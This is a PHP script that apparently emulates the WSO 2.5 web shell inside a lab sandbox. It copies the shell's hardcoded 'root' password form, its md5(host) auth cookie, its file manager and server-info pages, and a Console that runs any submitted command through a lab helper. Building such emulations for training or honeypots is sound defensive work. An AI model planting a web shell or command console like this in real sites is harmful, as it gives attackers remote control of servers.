<?php require getenv('LAB_SHELL_LIB');
// Emulates the WSO 2.5 file manager: a password form, an auth cookie named md5(host), and actions
// (FilesMan, FilesTools, SecInfo, Console) rendered as WSO's HTML pages.
$cookie = md5($_SERVER['HTTP_HOST']);
$authed = ($_COOKIE[$cookie] ?? '') === md5('root');
if (isset($_POST['pass']) && $_POST['pass'] === 'root') { setcookie($cookie, md5('root')); $authed = true; }
if (!$authed) { die("<pre align=center><form method=post>Password: <input type=password name=pass><input type=submit value='>>'></form></pre>"); }
$a = $_POST['a'] ?? 'FilesMan';
$h = htmlspecialchars(php_uname());
echo "<html><head><meta http-equiv='Content-Type' content='text/html; charset=UTF-8'><title>" . $_SERVER['HTTP_HOST'] . " - WSO 2.5</title><style>body{background-color:#444;color:#e1e1e1;}</style></head><body>";
echo "<table class=info cellpadding=3 cellspacing=0 width=100%><tr><td width=1><span>Uname:<br>User:<br>Php:<br>Hdd:<br>Cwd:</span></td><td><nobr>$h</nobr><br>" . get_current_user() . " ( " . getmyuid() . " )<br>" . phpversion() . " Safe mode: <font color=#00bb00><b>OFF</b></font><br>" . round(disk_total_space('/') / 1073741824, 2) . " GB<br>" . htmlspecialchars(lab_sandbox()) . " <font color=#00bb00>[ drwxr-xr-x ]</font></td></tr></table>";
switch ($a) {
    case 'FilesMan':
        echo "<h1>File manager</h1><table width='100%' class='main' cellspacing='0' cellpadding='2'><tr><th>Name</th><th>Size</th><th>Modify</th><th>Owner/Group</th><th>Permissions</th><th>Actions</th></tr>";
        foreach (explode("\n", trim(lab_listing())) as $line) { $f = explode("\t", $line); echo "<tr><td><a href=# onclick=\"g('FilesTools',null,'" . htmlspecialchars($f[0]) . "','view')\">" . htmlspecialchars($f[0]) . "</a></td><td>" . $f[2] . "</td><td>" . $f[1] . "</td><td>www-data/www-data</td><td>" . $f[3] . "</td><td>R T E D</td></tr>"; }
        echo "</table>";
        break;
    case 'FilesTools':
        echo "<h1>File tools</h1><pre class=ml1>" . htmlspecialchars(@file_get_contents(lab_sandbox() . '/lab-notes.txt')) . "</pre>";
        break;
    case 'SecInfo':
        echo "<h1>Server security information</h1><div class=content><span>Server software:</span><pre class=ml1>" . htmlspecialchars($_SERVER['SERVER_SOFTWARE'] ?? '') . "</pre><span>Disabled PHP Functions:</span><pre class=ml1>none</pre><span>OS Version:</span><pre class=ml1>" . htmlspecialchars(lab_run('uname -a')) . "</pre></div>";
        break;
    case 'Console':
        echo "<h1>Console</h1><div class=content><pre class=ml1 style='height:400px;' id=cmd_output>$ " . htmlspecialchars($_POST['p1'] ?? '') . "\n" . htmlspecialchars(lab_run($_POST['p1'] ?? '')) . "</pre></div>";
        break;
}
echo "</body></html>";
